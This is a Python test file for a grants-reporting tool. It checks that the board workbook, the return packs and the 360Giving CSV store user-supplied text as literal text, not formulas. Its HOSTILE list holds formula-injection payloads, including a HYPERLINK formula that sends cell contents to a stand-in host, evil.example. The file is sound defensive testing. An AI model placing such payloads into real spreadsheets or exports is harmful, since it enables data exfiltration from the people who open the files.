"""Every text from config, officers or leads is written as text in every workbook and CSV we produce: the board
workbook, the return packs and the 360Giving CSV (issue 12, item 17)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import select

from grants.kernel import models as m
from grants.kernel.db import session_scope
from grants.reporting.giving360 import build_package, to_csv
from grants.reporting.xlsx import write_board_workbook
from tests.factories import load_example, project
from tests.reporting.test_board_report import sample_board
from tests.returns_kit import _stop_parser_pool, fill, ingest, issue  # noqa: F401

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
OUR_FORMULAS = re.compile(r"[A-Z]+[0-9]+\+[A-Z]+[0-9]+|SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)")


def _formulas(path: Path) -> list[str]:
    """The text of every formula in every sheet of a workbook, from its XML."""
    with zipfile.ZipFile(path) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>([^<]*)</f>", archive.read(name).decode())]


def _texts(path: Path) -> set[str]:
    """Every text cell (XML reads a carriage return back as a line feed)."""
    wb = load_workbook(path)
    return {c.value.replace("\n", "\r") for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.data_type != "f"}


def test_the_board_workbook_writes_names_owners_and_mitigations_as_text(tmp_path: Path) -> None:
    board = sample_board()
    projects = [replace(p, name=HOSTILE[0], lead_organisation=HOSTILE[1], spend_reason=HOSTILE[2])
                for p in board.projects]
    risks = [replace(r, owner=HOSTILE[3], mitigation=HOSTILE[4], title=HOSTILE[5]) for r in board.risks]
    grant = replace(board.grant, funder=HOSTILE[0])
    path = write_board_workbook(replace(board, grant=grant, projects=projects, risks=risks), tmp_path / "b.xlsx")
    assert _formulas(path) == []
    texts = _texts(path)
    assert {"'" + h for h in HOSTILE} <= texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


def test_the_return_pack_writes_the_register_as_text_and_still_reads_back(engine: Engine, tmp_path: Path) -> None:
    load_example(engine)
    with session_scope(engine) as session:
        proj = project(session, "active-bystander")
        proj.name, proj.lead_organisation, proj.lead_name = HOSTILE[0], HOSTILE[1], HOSTILE[3]
        line = session.exec(select(m.BudgetLine).where(m.BudgetLine.project_id == proj.id)).first()
        target = session.exec(select(m.Target).where(m.Target.project_id == proj.id)).first()
        assert line is not None and target is not None
        line.name, target.name, target.unit = HOSTILE[2], HOSTILE[4], HOSTILE[5]
        grant = session.get(m.Grant, proj.grant_id)
        assert grant is not None
        grant.funder, grant.name = HOSTILE[0], HOSTILE[1]
    pack = issue(engine, tmp_path / "issued")
    assert all(OUR_FORMULAS.fullmatch(f) for f in _formulas(pack)), _formulas(pack)
    texts = _texts(pack)
    assert {"'" + HOSTILE[2], "'" + HOSTILE[4], "'" + HOSTILE[5]} <= texts
    assert [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    [result] = ingest(engine, tmp_path, fill(pack, {"spend__design": 100}, tmp_path / "in.xlsx"))
    assert (result.outcome, result.problems) == ("accepted", ())


def test_the_360giving_csv_never_starts_a_cell_with_a_formula_character(engine: Engine) -> None:
    load_example(engine)
    with session_scope(engine) as session:
        proj = project(session, "active-bystander")
        proj.name, proj.description, proj.lead_organisation = HOSTILE[0], HOSTILE[1], HOSTILE[3]
    with session_scope(engine) as session:
        package = build_package(session, "SVD-2024-25", date(2025, 3, 31), datetime(2025, 4, 30, tzinfo=UTC))
    rows = list(csv.DictReader(io.StringIO(to_csv(package))))
    [row] = [r for r in rows if r["Identifier"].endswith("-active-bystander")]
    assert (row["Title"], row["Description"], row["Recipient Org:Name"]) == (
        "'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[3])
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    [record] = [g for g in package["grants"] if g["id"].endswith("-active-bystander")]
    assert record["title"] == HOSTILE[0]  # the JSON package keeps the real text: JSON is never evaluated
